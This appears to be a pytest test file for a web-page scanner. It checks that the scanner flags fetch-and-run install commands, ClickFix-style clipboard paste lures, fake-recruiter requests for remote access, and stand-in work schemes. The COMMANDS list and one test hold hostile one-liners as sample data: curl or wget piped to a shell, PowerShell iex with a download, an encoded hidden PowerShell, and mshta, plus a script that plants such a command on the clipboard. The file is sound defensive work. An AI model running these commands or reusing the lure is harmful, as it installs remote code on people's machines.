"""What pages ask of a visitor's computer: who is asked, and what for, decides."""

from __future__ import annotations

import pytest

from scanner.observe.page import document, safety

HOME = "https://larkwell.example/"


def seen(html: str, url: str = HOME) -> dict[str, str]:
    rows = safety.safety(document.read(url, 200, [], html))
    assert all(row.kind == "safety" for row in rows)
    return {row.name: row.value for row in rows}


COMMANDS = [
    "curl -fsSL https://get.larkwell.example/install.sh | sh",
    "wget -qO- https://get.larkwell.example | sudo bash",
    'bash -c "$(curl -fsSL https://get.larkwell.example)"',
    "irm https://get.larkwell.example/i.ps1 | iex",
    "iex (New-Object Net.WebClient).DownloadString('https://x.example/a')",
    "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
    "mshta https://larkwell.example/check.hta",
]


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_that_fetches_and_runs_is_a_fact_with_its_place(command: str) -> None:
    assert seen(f"<h1>Install</h1><pre>{command}</pre>")["command"].startswith("page ")
    hiring = seen(f"<h1>Coding test</h1><pre>{command}</pre>", HOME + "careers")
    assert hiring["command"].startswith("hiring ")
    assert "paste" not in hiring


@pytest.mark.parametrize(
    "command", ["curl https://api.larkwell.example/v1/orders", "powershell Get-Help", "wget the file"]
)
def test_a_command_that_only_fetches_is_nothing(command: str) -> None:
    assert seen(f"<pre>{command}</pre>") == {}


PASTE = "<p>Press Windows + R, then Ctrl + V and Enter to complete verification of your camera.</p>"


def test_pasting_a_hidden_command_for_a_camera_is_told() -> None:
    script = "<script>navigator.clipboard.writeText('mshta https://x.example/v.hta')</script>"
    assert seen(PASTE + script)["paste"].endswith("mshta https://x.example/v.hta')")
    assert "paste" not in seen(PASTE), "without a command there is nothing to paste"
    assert "paste" not in seen(PASTE + script, HOME + "blog/clickfix"), "an article tells of it"
    assert "paste" not in seen(PASTE.replace("Windows + R", "the button") + script)


def test_a_tool_installed_by_pasting_is_only_a_command() -> None:
    html = f"<p>Open the terminal, paste this and press Enter:</p><pre>{COMMANDS[0]}</pre>"
    assert set(seen(html)) == {"command"}


@pytest.mark.parametrize(
    ("words", "kind"),
    [
        ("Candidates share their AnyDesk ID with the interviewer.", "asked"),
        ("For the assessment, give us full access to your computer.", "install"),
        ("Candidates allow the proctor remote control of your computer during the exam.", "install"),
        ("Before the interview, allow us full control of your laptop.", "asked"),
        ("Applicants install AnyDesk on your own laptop before the interview.", "install"),
        ("Before the interview, download AnyDesk and send the nine digit code to your recruiter.", "asked"),
        ("Für das Vorstellungsgespräch installieren Sie TeamViewer und nennen uns Ihre ID.", "asked"),
        ("Para a entrevista, instale o AnyDesk e envie o código ao recrutador.", "asked"),
        ("Download TeamViewer and give our technician the ID.", "support"),
        ("Grant remote access to your computer while we repair it.", "support"),
    ],
)
def test_who_is_asked_decides(words: str, kind: str) -> None:
    assert seen(f"<p>{words}</p>")["remote_control"] == f"{kind} {words}"


@pytest.mark.parametrize(
    "words",
    [
        "You install AnyDesk on customers' laptops.",
        "Experience with TeamViewer is a plus for candidates.",
        "Standing desk and a view.",
        "We give you remote work and full control of your hours.",
    ],
)
def test_job_advertisements_of_help_desks_ask_nobody(words: str) -> None:
    assert not seen(f"<h1>Careers</h1><p>{words}</p>").get("remote_control", "support").startswith("asked")


@pytest.mark.parametrize(
    "words",
    [
        "We send a laptop, you keep it running at your home, and our engineers connect to it.",
        "Our developers work on your computer under your name and you get 30%.",
        "30% of the monthly salary for work done under your name.",
        "We ship a company notebook; you keep it plugged in at home and our engineer logs in every day.",
        "You attend the client interviews, and our senior engineers do all of the work under your name.",
    ],
)
def test_work_by_others_in_a_persons_place(words: str) -> None:
    assert seen(f"<p>{words}</p>")["stand_in"] == words


@pytest.mark.parametrize(
    "words",
    [
        "We send a laptop to your home and pay for your internet every month.",
        "Save 10% of your salary in the pension plan, in your name.",
        "Your computer, our software: we log in from our office to support you.",
        "We ship a notebook to your home; our IT team logs in once to set it up.",
        "Keep the notebook plugged in while updates run.",
        "White label: our engineers do the work, you deliver it under your name.",
        "Leave your computer running and it works for science while you sleep.",
    ],
)
def test_honest_remote_work_lends_nothing(words: str) -> None:
    assert "stand_in" not in seen(f"<p>{words}</p>")


def test_downloads_passwords_and_repositories() -> None:
    html = (
        "<h1>Take-home task</h1><a href='/run.exe'>run</a><a href='/a.zip'>a</a><p>Clone it.</p>"
        "<p>Archive password: 1234ab</p>"
        "<a href='https://github.com/larkwell/task'>task</a><a href='https://github.com/larkwell'>we</a>"
    )
    found = seen(html, HOME + "jobs")
    assert found["download"] == "hiring exe https://larkwell.example/run.exe"
    assert found["archive_password"] == "hiring Archive password: 1234ab"
    assert found["task_repository"] == "hiring https://github.com/larkwell/task"
    assert (
        seen(
            "<a href='mailto:setup@x.exe'>x</a><a href='https://setup.app'>y</a><p>Forgot your password?</p>"
        )
        == {}
    )


@pytest.mark.parametrize(
    "words",
    [
        "We ship a work laptop to your home, you keep it online, and our overseas engineers use it.",
        "You attend the interview in your own name, we do all the coding. You keep 30% of the salary.",
        "We do the work, you get 25% of every paycheck.",
        "Host our devices at your place: a US address for our developers abroad.",
        "You open the Upwork and bank account, pass verification, our team works under your name.",
        "Our senior developer will speak to you through the earpiece and do the tasks.",
    ],
)
def test_more_words_for_a_stand_in(words: str) -> None:
    assert "stand_in" in seen(f"<h1>Partners</h1><p>{words}</p>")


@pytest.mark.parametrize(
    "words",
    [
        "You work under your name, we invoice the customer and keep 5% of the salary.",
        "Freelancers keep 70% of every invoice; we do the paperwork.",
        "Your laptop is shipped to your home before your first day; our engineers set it up with you.",
        "Host a test device at your place: our customers test their apps on your old phone.",
        "Our anchors sit on camera while producers speak to them through an earpiece.",
        "Bring us a customer: we do the work, you get 10% of the first invoice.",
    ],
)
def test_honest_offers_in_the_same_words(words: str) -> None:
    assert "stand_in" not in seen(f"<h1>Partners</h1><p>{words}</p>")


@pytest.mark.parametrize(
    "words",
    [
        "We never ask candidates to share an AnyDesk code or to give remote access to your computer.",
        "Our recruiters will never ask applicants to send their TeamViewer ID or password.",
        "If anyone asks you, as a candidate, to share your AnyDesk number, it is not us.",
        "No applicant has to grant remote control of your computer for an interview with us.",
        "Scammers have candidates share an AnyDesk code before the interview.",
        "Some scammers offer that it stays at your house with your laptop: our engineers connect to it.",
    ],
)
def test_a_careers_page_that_warns_of_such_requests_makes_none(words: str) -> None:
    found = seen(f"<h1>Careers</h1><p>{words}</p>", HOME + "careers")
    assert "stand_in" not in found
    assert not found.get("remote_control", "").startswith("asked")


def test_a_page_that_quotes_the_command_to_warn_of_it_has_nobody_paste_it() -> None:
    # given a careers page that tells what others had applicants do
    told = (
        "<p>Fake recruiters have candidates open PowerShell, press Ctrl + V and run a command for the camera."
    )
    found = seen(f"<h1>Careers</h1>{told}<pre>{COMMANDS[-1]}</pre>", HOME + "careers")
    assert "paste" not in found
    assert found["command"].startswith("page "), "it is no task of theirs"
    # then a page that itself asks for it is none of those, though it forbids something else
    asks = "<p>Do not close this page, press Windows + R and Ctrl + V to complete verification of your camera.</p>"
    assert "paste" in seen(f"<h1>Interview</h1>{asks}<pre>{COMMANDS[-1]}</pre>", HOME + "careers")
